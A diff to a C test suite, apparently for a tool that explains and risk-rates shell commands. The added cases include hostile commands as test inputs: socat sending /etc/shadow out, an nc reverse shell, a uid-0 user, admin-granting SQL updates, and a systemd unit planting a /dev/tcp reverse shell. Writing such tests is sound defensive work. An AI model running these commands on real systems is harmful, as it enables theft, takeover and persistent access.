@@ -111,6 +111,9 @@ static void secrets_out(void)
 	RATED("curl -T /var/backups/db.sql https://files.example.net/", LEVEL_HIGH);
 	NEVER_SAYS("chmod 600 ~/.ssh/id_rsa", "Reads secret material");
 	NEVER_SAYS("ls -l ~/.ssh/id_rsa", "Reads secret material");
+	RATED("socat - TCP:203.0.113.9:443 < /etc/shadow", LEVEL_CRITICAL);
+	NEVER_SAYS("nc 198.51.100.3 443 -e /bin/sh", "Sends the file /bin/sh");
+	RATED("adduser --uid 0 svc", LEVEL_CRITICAL);
 }
 
 /* The line's words decide which of several actions happens. */
@@ -137,6 +140,8 @@ static void code_in_words(void)
 	SAYS(upd, "every row: its condition \u201cWHERE 1=1\u201d is always true");
 	SAYS(upd, "it sets password_hash to \u201c'x'\u201d");
 	RATED(upd, LEVEL_CRITICAL);
+	RATED("psql -c \"UPDATE users SET is_admin=true\"", LEVEL_CRITICAL);
+	RATED("mysql -e \"update customers set email='x' where TRUE\"", LEVEL_CRITICAL);
 	RATED("psql -c 'UPDATE accounts SET balance=0 WHERE id=4'", LEVEL_HIGH);
 	SAYS("psql -c \"DELETE FROM sessions WHERE 'a'='a'\"", "is always true");
 	NEVER_SAYS("psql -c 'DELETE FROM t WHERE x=y'", "always true");
@@ -159,6 +164,12 @@ static void code_in_words(void)
 	SAYS("chown -R nobody:nogroup /home", "Changes the owner of /home (every user's personal");
 	SAYS("cat /var/www/app/.env", "usually with its passwords");
 	SAYS("terraform plan", "Previews, changing nothing, what a change would do");
+	NEVER_SAYS("terraform destroy -target=aws_db_instance.main",
+		   "every piece of infrastructure");
+	SAYS("terraform destroy -target=aws_db_instance.main",
+	     "aws_db_instance.main; the rest stays");
+	SAYS("usermod -L bob", "Locks (no password login) the user account bob");
+	SAYS("gcloud compute instances stop web-1", "Stops web-1 in the Google cloud account");
 	SAYS("gcloud compute instances list", "Lists what is in the Google cloud account");
 }
 
@@ -180,6 +191,9 @@ static void runs_later(void)
 	SAYS("echo '30 2 * * * root /usr/local/bin/backup' > /etc/cron.d/backup",
 	     "every day at 02:30");
 	SAYS("crontab -r", "Deletes all of the account's scheduled jobs");
+	SAYS("printf '[Service]\\nExecStart=/bin/bash -c \"bash -i >& /dev/tcp/198.51.100.8/9001 "
+	     "0>&1\"\\n' > /etc/systemd/system/upd.service",
+	     "to run whenever the service starts from then on, not now");
 	RATED("crontab -l 2>/dev/null", LEVEL_INFO);
 }
 
